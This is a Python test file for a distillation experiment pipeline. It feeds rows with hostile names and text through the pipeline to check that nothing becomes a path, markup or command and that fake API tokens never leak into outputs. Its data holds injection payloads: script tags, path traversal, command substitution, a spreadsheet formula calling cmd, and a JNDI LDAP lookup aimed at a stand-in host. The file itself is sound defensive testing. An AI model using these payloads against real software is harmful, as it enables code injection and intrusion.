"""Names, texts and ids that would like to be paths, markup or commands, through a whole experiment; and secrets."""

from pathlib import Path

import yaml
from pyarrow.parquet import read_table

from experiments import snapshot, write_lines
from kdlora.evidence.predictions import read_predictions
from kdlora.experiment.run import run_experiment
from tiny import sentiment_rows

LABELS = ("<script>document.title='owned'</script> ", "\x85../../x|`y`\n# \\input{/etc/passwd}")
IDS = (
    "../../../{}",
    '"><img src=x onerror=1>{}',
    "[red]{}[/red]",
    "a|b\n{}",
    "{}\u202e\u2028",
    "=cmd|' /C calc'!A{}",
    "{} ",
)
TEXTS = (
    "</style><script>document.title='owned'</script> {}",
    "![x](http://192.0.2.1/{}.png) | a | b |\n---\n# heading",
    "$(touch owned) `touch owned` ; touch owned {}",
    "\\input{{/etc/passwd}} ${{jndi:ldap://192.0.2.1/{}}}",
    "\u202egnirts desrever {} \ufeff\u200d\U0001f469\u200d\U0001f680 \ud7ff \U0010ffff",
    "é́́́́́́́ 日本語 \x07\x1b[31m {}",
)
SECRETS = {
    "HF_TOKEN": "hf_thisIsASecretThatNobodyMayRead",
    "WANDB_API_KEY": "wandb-secret-0123456789",
    "MLFLOW_TRACKING_PASSWORD": "mlflow-secret-0123456789",
    "AWS_SECRET_ACCESS_KEY": "aws-secret-0123456789",
}


def hostile_rows(count: int, seed: int) -> list[dict[str, str]]:
    """Rows of the usual kind, dressed up."""
    return [
        {
            IDENT: IDS[number % len(IDS)].format(f"{seed}-{number}"),
            TEXT: f"{row['text']} {TEXTS[number % len(TEXTS)].format(number)}",
            LABEL: LABELS[row["label"] == "positive"],
        }
        for number, row in enumerate(sentiment_rows(count, seed))
    ]


IDENT, TEXT, LABEL = "../id|<b>", "text<script>", "label`|\n../.."


def test_names_come_through_and_become_no_path_or_markup_and_no_secret_is_kept(workshop, tmp_path, monkeypatch):
    """`../../x` as a label, an id or a column must never become a path, and a prediction under another id is wrong."""
    rows = {"train": hostile_rows(60, 0), "validation": hostile_rows(24, 1)}
    files = {split: str(write_lines(tmp_path / f"{split}.jsonl", own)) for split, own in rows.items()}
    changes = {"task": {"text": TEXT, "label": LABEL}, "data": files | {"id_column": IDENT}}
    changes |= {"run": {"arms": ["kd-lora"]}, "export": {"formats": ["onnx"], "benchmark": False}}
    for name, secret in SECRETS.items():
        monkeypatch.setenv(name, secret)
    monkeypatch.chdir(tmp_path)
    result = run_experiment(workshop.config(changes), tmp_path / "work" / "out")
    assert not result.failed
    layout = result.layout

    predictions = read_predictions(layout.run("kd-lora", 0).predictions)
    assert list(predictions.ids) == [row[IDENT] for row in rows["validation"]]
    assert set(predictions.label_names) == set(LABELS)
    shards = sorted(layout.teacher_logits.glob("*.parquet"))
    stored = [name for shard in shards for name in read_table(shard)["id"].to_pylist()]
    assert stored == [row[IDENT] for row in rows["train"]]

    outside = {name for name in snapshot(tmp_path) if not name.startswith("work/out/")}
    assert outside == {"train.jsonl", "validation.jsonl"}
    assert not [path for path in tmp_path.rglob("*") if path.name in ("owned", "x") or "|" in path.name]
    assert layout.student.exists()
    assert (layout.onnx / "model.onnx").exists()

    # A token in a record is published with the record.
    for path in filter(Path.is_file, tmp_path.rglob("*")):
        content = path.read_bytes()
        assert not [name for name, secret in SECRETS.items() if secret.encode() in content], path

    # A backtick in a label ends the code early, and what follows is markup.
    card = (layout.student / "README.md").read_text(encoding="utf-8")
    _, metadata, body = card.split("---\n", 2)
    assert set(yaml.safe_load(metadata)) >= {"library_name", "pipeline_tag", "tags"}
    assert "`` ../../x|`y` # \\input{/etc/passwd} ``" in body
